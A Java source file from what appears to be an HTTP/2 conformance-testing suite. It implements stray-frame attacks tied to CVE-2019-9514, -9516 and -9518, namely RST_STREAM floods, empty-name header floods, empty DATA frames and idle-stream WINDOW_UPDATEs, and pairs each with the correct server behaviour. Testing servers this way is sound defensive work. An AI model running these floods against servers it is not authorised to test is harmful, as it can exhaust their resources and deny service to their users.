package dev.gannet.conformance.gauntlet.attack;

import dev.gannet.conformance.gauntlet.attack.AttackDescription.Fate;
import dev.gannet.conformance.gauntlet.wire.BlockWriter;
import dev.gannet.conformance.gauntlet.wire.Frames;
import dev.gannet.conformance.gauntlet.wire.RawConnection;
import dev.gannet.conformance.gauntlet.wire.Requests;
import java.io.IOException;
import java.util.List;

/** Frames that have no meaning at their position. */
enum StrayFrames implements Attack {
  /** Resets of a stream that has ended long ago. */
  RESET_OF_CLOSED(
      "reset-flood-closed",
      "RFC 9113 §5.1",
      Fate.BOUNDED,
      "",
      "ignores them and remembers nothing, or counts them",
      "2019-9514"),
  /** Resets of a stream that was never opened. */
  RESET_OF_IDLE(
      "reset-flood-idle",
      "RFC 9113 §6.4",
      Fate.CUT_OFF,
      "RST_STREAM on an idle stream",
      "takes the first one for a connection error",
      "2019-9514"),
  /** Fields with neither name nor value, which cost an entry each. */
  EMPTY_NAMES(
      "zero-length-names",
      "RFC 9113 §8.2, §10.5.1",
      Fate.BOUNDED,
      "",
      "refuses the request, and keeps nothing of it",
      "2019-9516"),
  /** DATA frames without content and without END_STREAM. */
  EMPTY_DATA(
      "empty-data",
      "RFC 9113 §10.5",
      Fate.CUT_OFF,
      "too many EMPTY_DATA",
      "counts it",
      "2019-9518"),
  /** Windows of streams that were never opened. */
  IDLE_FRAMES(
      "idle-frames",
      "RFC 9113 §5.1",
      Fate.CUT_OFF,
      "WINDOW_UPDATE on an idle stream",
      "takes the first one for a connection error",
      ""),
  /** The largest stream id first. */
  LAST_STREAM(
      "huge-ids",
      "RFC 9113 §5.1.1",
      Fate.BOUNDED,
      "",
      "serves it without state for the streams left out, and opens none after it",
      "");

  private static final int FIELDS = 100;
  private static final int LAST_ID = Integer.MAX_VALUE;

  private final String name;
  private final String section;
  private final Fate fate;
  private final String reason;
  private final String correct;
  private final String cve;

  StrayFrames(String name, String section, Fate fate, String reason, String correct, String cve) {
    this.name = name;
    this.section = section;
    this.fate = fate;
    this.reason = reason;
    this.correct = correct;
    this.cve = cve;
  }

  @Override
  public AttackDescription description() {
    return new AttackDescription(name, section, List.of(), correct, fate, reason).published(cve);
  }

  @Override
  public void attack(Front front) throws IOException {
    RawConnection connection = front.connect();
    Requests requests = Requests.to(Requests.UPLOAD);
    int first = this == LAST_STREAM ? LAST_ID : 1;
    connection.send(Frames.headers(first, Frames.END_HEADERS, requests.next()));
    if (this == RESET_OF_CLOSED) {
      connection.send(Frames.rstStream(first));
    }
    for (int id = 3; front.goesOn(connection); id += 2) {
      connection.send(frame(id, requests));
      if (this == LAST_STREAM) {
        connection.flush();
        front.pauseMillis(1);
      }
    }
  }

  private byte[] frame(int id, Requests requests) {
    return switch (this) {
      case RESET_OF_CLOSED -> Frames.rstStream(1);
      case RESET_OF_IDLE -> Frames.rstStream(id);
      case EMPTY_NAMES -> Frames.headers(id, Frames.END_HEADERS, requests.nextWith(emptyNames()));
      case EMPTY_DATA -> Frames.data(1, Frames.NONE);
      case IDLE_FRAMES -> Frames.windowUpdate(id, 1);
      case LAST_STREAM -> Frames.windowUpdate(LAST_ID, 1);
    };
  }

  private static BlockWriter emptyNames() {
    BlockWriter block = new BlockWriter();
    for (int i = 0; i < FIELDS; i++) {
      block.unstored("", "");
    }
    return block;
  }
}
